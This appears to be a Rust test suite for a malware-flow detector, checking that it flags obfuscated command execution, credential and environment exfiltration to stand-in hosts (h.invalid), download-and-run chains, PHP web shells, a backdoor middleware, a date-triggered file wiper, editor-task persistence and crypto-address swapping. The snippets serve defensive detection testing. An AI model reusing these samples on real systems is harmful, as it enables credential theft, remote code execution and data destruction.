//! What languages run without a call that stands there, and what is made of constants in ways of their own.

use super::reached::{has, has_not};
use super::*;
use crate::model::Severity;

fn worst(language: Language, code: &str, rule: &str) -> Option<Severity> {
    let outcome = outcome(language, code);
    let of = |f: &flows::Flow<'_>| f.severity.unwrap_or(f.rule.severity);
    flows::judge(&outcome, false).iter().filter(|f| f.rule.id == rule).map(of).max()
}

fn when(language: Language, code: &str, act: Act) -> When {
    event(&outcome(language, code), act).when
}

#[test]
fn classes_run_code_when_they_are_made() {
    let by_metaclass = "class M(type):\n    def __new__(m, name, bases, ns):\n        import os\n        os.system(ns['go'])\n        \
                        return super().__new__(m, name, bases, ns)\nclass A(metaclass=M):\n    go = 'echo hi'\n";
    let by_base = "class M(type):\n    def __init__(c, name, bases, ns):\n        import os\n        os.system(ns['go'])\n\
                   class B(metaclass=M):\n    go = 'x'\nclass A(B):\n    go = 'echo hi'\n";
    let by_subclass = "import os\nclass B:\n    def __init_subclass__(cls, go='', **kw):\n        os.system(go)\n\
                       class A(B, go='echo hi'):\n    pass\n";
    let by_name = "import os\nclass F:\n    def __init__(self, c):\n        self.c = c\n    def __set_name__(self, owner, name):\n        \
                   os.system(self.c)\nclass A:\n    f = F('echo hi')\n";
    let by_get = "import os\nclass F:\n    def __get__(self, obj, kind=None):\n        return 'echo hi'\nclass A:\n    f = F()\n\
                  os.system(A.f)\n";
    let by_call = "import os\nA = type('A', (object,), {'go': lambda self: os.system('echo hi')})\nA().go()\n";
    for code in [by_metaclass, by_subclass, by_name, by_get, by_call] {
        assert_eq!(command(Language::Python, code), "echo hi", "{code}");
        assert_eq!(when(Language::Python, code, Act::Run), When::Load, "{code}");
    }
    assert_eq!(when(Language::Python, by_base, Act::Run), When::Load);
    // What a class only hands down waits for somebody.
    let waits = "import os\nclass B:\n    def __init_subclass__(cls, **kw):\n        os.system('echo hi')\n";
    assert_eq!(when(Language::Python, waits, Act::Run), When::Called);
}

#[test]
fn builders_of_distributions_are_called_by_who_installs() {
    let builds = "import os, urllib.request\ndef build_wheel(directory, settings=None, metadata=None):\n    \
                  urllib.request.urlopen('https://h.invalid/b', str(dict(os.environ)).encode())\n";
    assert_eq!(when(Language::Python, builds, Act::Send), When::Install);
    assert_eq!(when(Language::Python, &builds.replace("build_wheel", "build_page"), Act::Send), When::Called);
    let hatch = "import subprocess\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\
                 class H(BuildHookInterface):\n    def initialize(self, version, data):\n        subprocess.run(['tsc'])\n";
    assert_eq!(when(Language::Python, hatch, Act::Run), When::Install);
}

#[test]
fn letters_and_numbers_make_text() {
    let kinds = "import os\nclass F:\n    def __init__(self, k, v):\n        self.k = k\n        self.v = v\n\
                 fs = [F(str, 'echo '), F(int, 3), F(str, 'hi')]\nos.system(''.join(f.v for f in fs if f.k is str))";
    assert_eq!(command(Language::Python, kinds), "echo hi");
    let table = "import os\nt = str.maketrans('fdip!ij', 'echo hi')\nos.system('fdip!ij'.translate(str.maketrans('fdip!j', 'echo i')).replace('ii', 'hi'))";
    assert_eq!(command(Language::Python, table), "echo hi");
    let packed =
        "import os, struct\nos.system(struct.pack('<2IH', 1869112165, 1768431648, 0)[:7].decode()[:7].strip())";
    assert!(command(Language::Python, packed).starts_with("echo"), "{}", command(Language::Python, packed));
    // Whole numbers that are longer than a number is here: nobody knows the text, but it is one.
    let long = "import struct\neval(struct.pack('<4Q', 7310589470318850911, 7310589470318850912, 7310589470318850913, 7310589470318850914).decode())";
    assert!(worst(Language::Python, long, "flow-decoded-code") >= Some(Severity::High));
    let read =
        "import struct\nraw = open('a.bin', 'rb').read()\nprint(struct.pack('<2Q', 1, 2), struct.unpack('<Q', raw))";
    assert!(rules(Language::Python, read).is_empty());
    let identifier =
        "import uuid, os\nos.system(uuid.UUID('6563686f-2068-6920-2020-202020202020').bytes.decode().strip())";
    assert_eq!(command(Language::Python, identifier), "echo hi");
}

#[test]
fn unpacked_code_is_made_a_function_of() {
    let code = "import marshal, types, zlib, base64\ntypes.FunctionType(marshal.loads(zlib.decompress(base64.b64decode('eJwDAAAAAAE='))), globals())()";
    assert!(worst(Language::Python, code, "flow-decoded-code") >= Some(Severity::High));
    let packed = code.replace("eJwDAAAAAAE=", "eJxLZgACAAH0AGQ=");
    assert!(worst(Language::Python, &packed, "flow-decoded-code") >= Some(Severity::High));
    // What is sent to another process is its caller's.
    let sent = "import marshal, types\ndef run(code, ns):\n    return types.FunctionType(marshal.loads(code), ns)()";
    assert_eq!(worst(Language::Python, sent, "flow-decoded-code"), None);
    let copied = "import types\ndef copy(f):\n    return types.FunctionType(f.__code__, f.__globals__)";
    assert!(rules(Language::Python, copied).is_empty());
}

#[test]
fn tables_and_signs_of_javascript_are_looked_up() {
    let code = "const m = new Map([[Symbol.for('p'), 'child_process'], ['r', 'execSync']]);\n\
                require(m.get(Symbol.for('p')))[m.get('r')]('echo hi');";
    assert_eq!(command(Language::JavaScript, code), "echo hi");
    let set = "const m = new Map(); m.set('c', 'echo hi'); require('child_process').execSync(m.get('c'))";
    assert_eq!(command(Language::JavaScript, set), "echo hi");
    let turned = "const f = (s) => Array.prototype.reduceRight.call(s, (a, c) => a + c, '');\n\
                  require('child_process').execSync(f('ih ohce'))";
    assert_eq!(command(Language::JavaScript, turned), "echo hi");
}

#[test]
fn what_a_script_exports_it_may_take_itself() {
    let code = "const path = require('path');\nexports.logo = path.join(__dirname, 'logo.png');\n\
                eval(require('fs').readFileSync(exports.logo).toString('latin1').split('\\0')[1])";
    has(Language::JavaScript, code, "flow-code-from-carrier");
    let called = "exports.go = () => require('child_process').execSync('echo hi');\nexports.go();";
    assert_eq!(when(Language::JavaScript, called, Act::Run), When::Load);
    assert_eq!(when(Language::JavaScript, &called.replace("\nexports.go();", ""), Act::Run), When::Called);
    let beside = "import { readFileSync } from 'fs';\neval(readFileSync(new URL('./a.dat', import.meta.url), 'utf8'))";
    has(Language::JavaScript, beside, "flow-executes-data-file");
}

#[test]
fn all_that_a_page_has_stored_is_taken_at_once() {
    let sent = |what: &str| format!("fetch('https://h.invalid/s', {{ method: 'POST', body: {what} }})");
    for what in [
        "JSON.stringify(localStorage)",
        "JSON.stringify({ ...sessionStorage })",
        "JSON.stringify(Object.entries(localStorage))",
    ] {
        has(Language::JavaScript, &sent(what), "flow-stores-sent");
    }
    assert!(
        rules(Language::JavaScript, "const n = localStorage.length; localStorage.setItem('theme', 'dark')").is_empty()
    );
}

#[test]
fn places_that_are_searched_carry_what_lies_there() {
    let code = "import glob, os, requests\nout = []\nfor p in ('~/.claude/.credentials.json', '~/.codex/auth.json'):\n    \
                for f in sorted(glob.glob(os.path.expanduser(p)))[-5:]:\n        out.append(open(f, 'rb').read())\n\
                requests.post('https://h.invalid/u', data=b''.join(out))";
    has(Language::Python, code, "flow-credentials-sent");
    let plain =
        code.replace("~/.claude/.credentials.json", "~/notes/*.md").replace("~/.codex/auth.json", "~/todo/*.md");
    has_not(Language::Python, &plain, "flow-credentials-sent");
    let packed = "d=$(mktemp -d)\ncp \"$HOME/.netrc\" \"$d/n\"\nenv > \"$d/e\"\ntar -C \"$d\" -czf - . | curl -sT - https://h.invalid/t";
    has(Language::Shell, packed, "flow-credentials-sent");
    let plain = packed.replace(".netrc", "notes.txt");
    has(Language::Shell, &plain, "flow-environment-sent");
    assert!(rules(Language::Shell, &plain.replace("env >", "date >")).iter().all(|rule| !rule.contains("sent")));
}

#[test]
fn requests_are_made_in_steps() {
    let code = "import http.client, os, json\nc = http.client.HTTPSConnection('h.invalid')\nc.putrequest('POST', '/x')\n\
                c.endheaders()\nc.send(json.dumps(dict(os.environ)).encode())";
    has(Language::Python, code, "flow-environment-sent");
    let txt = "import dns.resolver\nexec(b''.join(dns.resolver.resolve('a.h.invalid', 'TXT')[0].strings))";
    has(Language::Python, txt, "flow-remote-code");
    let ftp = "const { Client } = require('basic-ftp');\nconst c = new Client();\nc.access({ host: 'h.invalid' }).then(() => \
               c.uploadFrom(require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa'), 'k'))";
    has(Language::JavaScript, ftp, "flow-credentials-sent");
}

#[test]
fn a_digest_does_not_tell_who_somebody_is() {
    let code = "const os = require('os'), c = require('crypto');\n\
                const id = c.createHash('sha256').update(os.hostname() + os.userInfo().username).digest('hex');\n\
                fetch('https://h.invalid/t', { method: 'POST', body: JSON.stringify({ id, os: os.platform() }) })";
    has_not(Language::JavaScript, code, "flow-identity-sent");
    let plain = code.replace("c.createHash('sha256').update(", "String(").replace(").digest('hex');", ");");
    has(Language::JavaScript, &plain, "flow-identity-sent");
}

#[test]
fn a_request_that_names_the_command() {
    let code = "module.exports = () => (req, res, next) => {\n  const k = require('crypto').createHash('sha256').update(String(req.get('x-id'))).digest();\n  \
                if (k.equals(Buffer.from('9f86d081884c7d65', 'hex'))) {\n    \
                return require('child_process').exec(Buffer.from(req.get('x-data'), 'base64').toString(), (e, o) => res.send(o));\n  }\n  next();\n};";
    assert!(worst(Language::JavaScript, code, "flow-remote-command") >= Some(Severity::High));
    let fixed = "module.exports = (req, res) => { const c = { up: 'uptime' }[req.query.job]; if (c) require('child_process').exec('uptime', (e, o) => res.send(o)) }";
    assert_eq!(worst(Language::JavaScript, fixed, "flow-remote-command"), None);
}

#[test]
fn files_are_emptied_when_a_day_has_come() {
    let code = "const fs = require('fs'), path = require('path');\nsetInterval(() => {\n  if (Date.now() < 1775000000000) return;\n  \
                for (const f of fs.readdirSync(process.cwd(), { recursive: true })) fs.writeFileSync(path.join(process.cwd(), f), '');\n}, 36e5);";
    has(Language::JavaScript, code, "flow-overwrites");
    has_not(Language::JavaScript, &code.replace("if (Date.now() < 1775000000000) return;", ""), "flow-overwrites");
}

#[test]
fn what_node_loads_first_is_set_for_all() {
    let code = "const fs = require('fs'), os = require('os');\n\
                fs.appendFileSync(os.homedir() + '/.npmrc', '\\nnode-options=--require ' + os.homedir() + '/.cache/s.cjs\\n')";
    has(Language::JavaScript, code, "flow-persists");
    has_not(Language::JavaScript, &code.replace("node-options=--require ", "cache="), "flow-persists");
    let task = "const fs = require('fs');\nconst t = JSON.parse(fs.readFileSync('.vscode/tasks.json', 'utf8'));\n\
                t.tasks.push({ label: 'w', command: 'node x', runOptions: { runOn: 'folderOpen' } });\n\
                fs.writeFileSync(process.env.INIT_CWD + '/.vscode/tasks.json', JSON.stringify(t))";
    has(Language::JavaScript, task, "flow-task-planted");
    has_not(Language::JavaScript, &task.replace("folderOpen", "default"), "flow-task-planted");
}

#[test]
fn commands_give_what_they_fetch_and_decode() {
    let twice =
        "import subprocess\nt = subprocess.getoutput('curl http://h.invalid/c.html')\nsubprocess.getoutput(str(t))";
    has(Language::Python, twice, "flow-download-run");
    let list = "use MIME::Base64;\nmy $c = join '', map { chr(ord($_) ^ 5) } split //, decode_base64('YGZtajonbGxs');\nsystem('sh', '-c', $c);";
    assert!(!rules(Language::Perl, list).is_empty());
    let lua =
        "vim.system({ 'curl', '-fsSL', 'https://h.invalid/v.lua' }, {}, function(res) loadstring(res.stdout)() end)";
    has(Language::Lua, lua, "flow-remote-code");
    let batch = "certutil -urlcache -split -f https://h.invalid/e.b64 \"%TEMP%\\e.b64\"\r\ncertutil -decode \"%TEMP%\\e.b64\" \"%TEMP%\\e.exe\"\r\nstart \"\" \"%TEMP%\\e.exe\"\r\n";
    has(Language::Batch, batch, "flow-download-run");
    // `system($_GET['c']);`, decoded in a function that is made of text.
    let made = "<?php $m='cre'.'ate_fun'.'ction'; function d($s){$b='base64'.'_decode'; return $b($s);} $f=$m('$x','ev'.'al(d($x));'); $f('c3lzdGVtKCRfR0VUWydjJ10pOw==');";
    has(Language::Php, made, "flow-remote-command");
    let page = "<?php if (isset($_SERVER['HTTP_X'])) { assert(base64_decode(file_get_contents('php://input'))); }";
    has(Language::Php, page, "flow-remote-code");
    let pushed = "import os, shutil, subprocess\nd = '/tmp/x'\nshutil.copytree(os.path.expanduser('~/.ssh'), d + '/k')\n\
                  run = lambda *a: subprocess.run(['git', '-C', d, *a])\nrun('init')\nrun('add', '-A')\nrun('push', 'https://h.invalid/r.git', 'HEAD')";
    has(Language::Python, pushed, "flow-credentials-sent");
    has_not(Language::Python, &pushed.replace("~/.ssh", "~/notes"), "flow-credentials-sent");
}

#[test]
fn an_editor_s_own_way_to_files() {
    let code = "const vscode = require('vscode'), os = require('os'), path = require('path');\nasync function ensure() {\n  \
                const r = await fetch('https://h.invalid/f.dll');\n  const f = vscode.Uri.file(path.join(os.tmpdir(), 'f.dll'));\n  \
                await vscode.workspace.fs.writeFile(f, new Uint8Array(await r.arrayBuffer()));\n  \
                vscode.window.createTerminal({ hideFromUser: true }).sendText('rundll32.exe ' + f.fsPath + ',Start');\n}\nexports.activate = () => ensure();";
    has(Language::JavaScript, code, "flow-download-run");
    has_not(
        Language::JavaScript,
        &code.replace("'rundll32.exe ' + f.fsPath + ',Start'", "'npm test'"),
        "flow-download-run",
    );
}

#[test]
fn functions_of_a_window_that_is_handed_over_are_replaced() {
    let code = "const own = ['0xA11ce5b0b0F00d1e2D3c4B5a69788796a5b4C3d2', '0xB22ce5b0b0F00d1e2D3c4B5a69788796a5b4C3d3'];\n\
                export function install(w) {\n  const f = w.fetch;\n  w.fetch = async (...a) => {\n    const r = await f(...a);\n    \
                return new Response((await r.text()).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, own[0]));\n  };\n}";
    has(Language::JavaScript, code, "flow-swaps-addresses");
    let times = "export function install(w) {\n  const f = w.fetch;\n  w.fetch = async (...a) => { const t = Date.now(); const r = await f(...a); console.log(Date.now() - t); return r; };\n}";
    assert!(rules(Language::JavaScript, times).is_empty());
}

#[test]
fn classes_that_extend_each_other_twice_stay_small() {
    let mut code = String::from("import threading\nclass A0(threading.Thread):\n    def run(self): pass\n");
    for i in 1..200 {
        code.push_str(&format!("class A{i}(A{0}, A{0}): pass\nB{i} = type('B', (A{i}, A{i}), {{}})\n", i - 1));
    }
    code.push_str("import os\nos.system('curl https://c2.invalid/x | sh')\n");
    assert!(rules(Language::Python, &code).contains(&"flow-remote-code"), "what follows is followed");
}

#[test]
fn what_a_command_prints_of_a_file_is_the_file() {
    let code = |command: &str| {
        format!(
            "import os, requests\nkey = os.popen('{command}').read()\nrequests.post('https://h.invalid/k', data=key)"
        )
    };
    has(Language::Python, &code("cat ~/.ssh/id_* 2>/dev/null"), "flow-credentials-sent");
    has_not(Language::Python, &code("cat VERSION"), "flow-credentials-sent");
}

#[test]
fn fields_of_a_class_become_its_constructor() {
    let code = |sent: &str| {
        format!(
            "import dataclasses, json, os, urllib.request\nfrom dataclasses import dataclass\n@dataclass\nclass Report:\n    \
             name: str\n    content: str\n    def __post_init__(self):\n        \
             urllib.request.urlopen('https://h.invalid/r', json.dumps({sent}).encode())\n\
             Report('a', open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
        )
    };
    has(Language::Python, &code("dataclasses.asdict(self)"), "flow-credentials-sent");
    has(Language::Python, &code("self.content"), "flow-credentials-sent");
    has_not(Language::Python, &code("self.name"), "flow-credentials-sent");
}

#[test]
fn modules_that_are_imported_out_of_a_download_are_run() {
    let imported = |place: &str, import: &str| {
        format!(
            "import importlib, sys, urllib.request\nurllib.request.urlretrieve('https://h.invalid/pack.zip', '/tmp/pack.zip')\n\
             sys.path.insert(0, '{place}')\n{import}\n"
        )
    };
    has(
        Language::Python,
        &imported("/tmp/pack.zip", "importlib.import_module('pack').register()"),
        "flow-download-run",
    );
    let code = |place: &str| imported(place, "import pack_of_themes\npack_of_themes.register()");
    has(Language::Python, &code("/tmp/pack.zip"), "flow-download-run");
    has_not(Language::Python, &code("/opt/plugins"), "flow-download-run");
}

#[test]
fn secrets_leave_in_the_bytes_of_a_ping() {
    let code = |what: &str| {
        format!(
            "const {{ execFile }} = require('child_process');\nconst s = [{what}].map(k => process.env[k] || '').join('|');\n\
             execFile('ping', ['-c', '1', '-p', Buffer.from(s).toString('hex').slice(0, 32), '198.51.100.200'], () => {{}});"
        )
    };
    has(Language::JavaScript, &code("'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'"), "flow-dns-exfiltration");
    has_not(Language::JavaScript, &code("'TERM', 'LANG'"), "flow-dns-exfiltration");
}

#[test]
fn a_plugin_is_handed_the_whole_environment_by_its_builder() {
    let code = |prefix: &str| {
        format!(
            "import {{ loadEnv }} from 'vite';\nconst env = loadEnv('production', '/srv/app', {prefix});\n\
             fetch('https://h.invalid/v1/opt', {{ method: 'POST', body: JSON.stringify(env) }});"
        )
    };
    has(Language::JavaScript, &code("''"), "flow-environment-sent");
    has_not(Language::JavaScript, &code("'VITE_'"), "flow-environment-sent");
}
